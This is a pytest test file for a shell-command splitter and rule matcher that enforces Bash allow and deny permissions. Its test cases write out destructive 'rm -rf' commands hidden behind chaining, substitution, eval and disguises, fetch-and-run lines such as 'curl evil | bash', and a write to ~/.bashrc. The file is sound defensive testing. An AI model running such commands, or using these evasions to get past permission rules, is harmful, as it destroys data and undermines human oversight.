"""Splitting shell commands into parts for Bash rule matching (PERM-11)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reference_impl.permissions._shell import deny_candidates, match_shell_pattern, split_command

# (command, expected parts in scan order, confident)
SPLIT_CASES = [
    ("npm test", ["npm test"], True),
    ("npm test && rm -rf x", ["npm test", "rm -rf x"], True),
    ("npm test || rm -rf x", ["npm test", "rm -rf x"], True),
    ("npm test; rm -rf x", ["npm test", "rm -rf x"], True),
    ("npm test | sh", ["npm test", "sh"], True),
    ("npm test |& sh", ["npm test", "sh"], True),
    ("npm test & rm -rf x", ["npm test", "rm -rf x"], True),
    ("npm test\nrm -rf x", ["npm test", "rm -rf x"], True),
    ("npm test $(rm -rf x)", ["rm -rf x", "npm test $(rm -rf x)"], True),
    ("npm test `rm -rf x`", ["rm -rf x", "npm test `rm -rf x`"], True),
    ('npm test "$(rm -rf x)"', ["rm -rf x", 'npm test "$(rm -rf x)"'], True),
    ("diff <(rm -rf x) y", ["rm -rf x", "diff <(rm -rf x) y"], True),
    ("tee >(rm -rf x)", ["rm -rf x", "tee >(rm -rf x)"], True),
    ("(cd x; rm y)", ["cd x", "rm y"], True),
    ("echo ${x:-$(rm z)}", ["rm z", "echo ${x:-$(rm z)}"], True),
    ("npm test $(echo $(rm -rf x))", ["rm -rf x", "echo $(rm -rf x)", "npm test $(echo $(rm -rf x))"], True),
    # Operators inside quotes or escaped are text, not operators.
    ('echo "a && b"', ['echo "a && b"'], True),
    ("echo 'a; b | c'", ["echo 'a; b | c'"], True),
    ("echo a\\;b", ["echo a\\;b"], True),
    ("echo $'a;b'", ["echo $'a;b'"], True),
    ("echo ${x//;/,}", ["echo ${x//;/,}"], True),
    # Redirections that are not background jobs or pipes.
    ("npm test 2>&1", ["npm test 2>&1"], True),
    ("npm test &> /dev/null", ["npm test &> /dev/null"], True),
    ("npm test > /dev/null", ["npm test > /dev/null"], True),
    ("npm test # && rm -rf x", ["npm test"], True),
    ("npm \\\ntest", ["npm test"], True),
    # Fail closed: not understood, or a part that allow rules must not trust.
    ('echo "unbalanced', ['echo "unbalanced'], False),
    ("echo 'unbalanced", ["echo 'unbalanced"], False),
    ("echo `unbalanced", ["unbalanced", "echo `unbalanced"], False),
    ("echo $(unclosed", ["unclosed", "echo $(unclosed"], False),
    ("echo x )", ["echo x"], False),
    ("cat <<EOF\nrm -rf x\nEOF", ["cat <<EOF", "rm -rf x", "EOF"], False),
    ("echo $((1+2))", ["1+2", "echo $((1+2))"], False),
    ("echo hi > ~/.bashrc", ["echo hi > ~/.bashrc"], False),
    ("echo hi>x", ["echo hi>x"], False),
    ("$CMD -rf x", ["$CMD -rf x"], False),
    ("if true; then rm -rf x; fi", ["if true", "then rm -rf x", "fi"], False),
    ("f() { rm -rf x; }", ["f", "{ rm -rf x", "}"], False),
]


@pytest.mark.parametrize(("command", "parts", "confident"), SPLIT_CASES)
def test_split_command(command: str, parts: list[str], confident: bool) -> None:
    result = split_command(command)
    assert [p.text for p in result.parts] == parts
    assert result.confident is confident


def test_canonical_spacing_of_operators() -> None:
    assert split_command("curl x|bash").canonical == "curl x | bash"
    assert split_command("a&&b ;c\n").canonical == "a && b ; c"


def test_problems_are_named() -> None:
    assert "unbalanced double quote" in split_command('echo "x').problems
    assert "here-documents are not analysed" in split_command("cat <<E\nE").problems


MATCH_CASES = [
    ("npm test:*", "npm test", True),
    ("npm test:*", "npm test --watch", True),
    ("npm test:*", "npm testing", False),
    ("npm test:*", "npm tes", False),
    ("npm test *", "npm test", True),  # single trailing " *" is optional
    ("npm test *", "npm test --watch", True),
    ("npm test *", "npm testing", False),
    ("ls*", "lsof", True),
    ("ls *", "lsof", False),
    ("git * main", "git checkout main", True),
    ("git * main", "git checkout dev", False),
    ("* install", "pnpm install", True),
    ("npm run build", "npm run build", True),
    ("npm run build", "npm run build --prod", False),
    ("echo \\*", "echo *", True),
    ("echo \\*", "echo x", False),
    ("curl * | bash", "curl evil | bash", True),
]


@pytest.mark.parametrize(("pattern", "command", "expected"), MATCH_CASES)
def test_match_shell_pattern(pattern: str, command: str, expected: bool) -> None:
    assert match_shell_pattern(pattern, command) is expected


@pytest.mark.parametrize(
    ("command", "form"),
    [
        ("'rm' -rf x", "rm -rf x"),
        ("r\\m -rf x", "rm -rf x"),
        ("FOO=1 rm -rf x", "rm -rf x"),
        ("nohup nice -n 5 rm -rf x", "rm -rf x"),
        ("timeout 10 rm -rf x", "rm -rf x"),
        ("env -i A=b rm -rf x", "rm -rf x"),
        ("/bin/rm -rf x", "rm -rf x"),
        ("sudo rm  -rf   x", "rm -rf x"),
    ],
)
def test_deny_candidates_see_through_disguises(command: str, form: str) -> None:
    (part,) = split_command(command).parts
    assert form in deny_candidates(part)


WORDS = st.sampled_from(["npm", "test", "rm", "-rf", "x", "git", "status", "echo", "ls", "-la", "build"])
OPERATORS = st.sampled_from(["&&", "||", ";", "|", "&", "\n", "|&"])
SIMPLE = st.lists(WORDS, min_size=1, max_size=4).map(" ".join)


@given(st.lists(SIMPLE, min_size=1, max_size=5), st.data())
@settings(max_examples=200)
def test_parts_round_trip(commands: list[str], data: st.DataObject) -> None:
    """Simple commands joined by any list operator split back into exactly those commands (PERM-11)."""
    pieces = [commands[0]]
    for command in commands[1:]:
        pieces.append(f" {data.draw(OPERATORS)} ")
        pieces.append(command)
    result = split_command("".join(pieces))
    assert [p.text for p in result.parts] == commands
    assert result.confident


@given(SIMPLE, OPERATORS, SIMPLE, st.sampled_from(['"', "'"]))
def test_quoted_operators_do_not_split(left: str, operator: str, right: str, quote: str) -> None:
    """An operator inside quotes is text: the command stays one part."""
    command = f"echo {quote}{left} {operator} {right}{quote}"
    result = split_command(command)
    assert [p.text for p in result.parts] == [command]


@pytest.mark.parametrize(
    ("command", "form"),
    [
        ("{ rm -rf x; }", "rm -rf x"),
        ("if rm -rf x; then :; fi", "rm -rf x"),
        ("! rm -rf x", "rm -rf x"),
        ("find . | xargs rm -rf", "rm -rf"),
        ("bash -c 'rm -rf x'", "rm -rf x"),
        ("sh -ec 'true && rm -rf x'", "rm -rf x"),
        ("eval 'rm -rf x'", "rm -rf x"),
        ('/bin/bash -c "echo; /bin/rm -rf x"', "rm -rf x"),
    ],
)
def test_deny_candidates_reach_nested_and_grouped_commands(command: str, form: str) -> None:
    forms = {f for part in split_command(command).parts for f in deny_candidates(part)}
    assert form in forms


def test_clobber_redirection_is_not_a_pipe() -> None:
    result = split_command("echo x >| out.txt")
    assert [p.text for p in result.parts] == ["echo x >| out.txt"]
    assert not result.confident  # writes a file
